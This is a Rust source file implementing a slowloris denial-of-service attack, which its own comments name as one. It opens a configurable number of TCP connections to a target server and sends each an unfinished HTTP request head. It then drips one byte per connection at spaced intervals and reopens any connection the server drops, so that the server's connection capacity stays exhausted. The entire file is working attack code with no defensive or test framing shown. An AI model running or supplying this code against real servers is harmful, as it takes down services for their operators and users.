//! Connections that never finish the head of their request: a letter now and then, and a new one for each that the
//! server ends. One thread; a connection is a socket and nothing else.

use std::{
    io::{self, ErrorKind, Read, Write},
    net::{SocketAddrV4, TcpStream},
    thread,
    time::{Duration, Instant},
};

/// How a slowloris attacks.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    pub server: SocketAddrV4,
    pub connections: usize,
    /// Between two letters of a connection.
    pub pause: Duration,
}

/// How many pieces a round is cut into, so that the letters are spread over the pause.
const SLICES: usize = 200;

/// Attacks until `time` is over. `tell` hears how many are connected and how many were ended, after each round.
pub fn run(attack: Attack, time: Duration, mut tell: impl FnMut(usize, u64)) -> io::Result<()> {
    let begun = Instant::now();
    let mut sockets: Vec<Option<TcpStream>> = (0..attack.connections).map(|_| None).collect();
    let mut ended = 0;
    while begun.elapsed() < time {
        for slice in sockets.chunks_mut(attack.connections.div_ceil(SLICES)) {
            let due = Instant::now() + attack.pause / u32::try_from(SLICES).unwrap_or(1);
            for socket in slice {
                if socket.as_mut().is_some_and(|socket| !goes_on(socket)) {
                    *socket = None;
                    ended += 1;
                }
                if socket.is_none() {
                    // A server that takes no more is asked again next time.
                    *socket = begin(attack.server).ok();
                }
            }
            thread::sleep(due.saturating_duration_since(Instant::now()));
        }
        tell(sockets.iter().flatten().count(), ended);
    }
    Ok(())
}

fn begin(server: SocketAddrV4) -> io::Result<TcpStream> {
    let mut socket = TcpStream::connect_timeout(&server.into(), Duration::from_secs(1))?;
    socket.set_nonblocking(true)?;
    write!(socket, "GET /events HTTP/1.1\r\nHost: {server}\r\nX: ")?;
    Ok(socket)
}

/// Says a letter; false if the server has ended the connection.
fn goes_on(socket: &mut TcpStream) -> bool {
    let is_open = matches!(socket.read(&mut [0]), Err(error) if error.kind() == ErrorKind::WouldBlock);
    is_open && socket.write_all(b"a").is_ok()
}
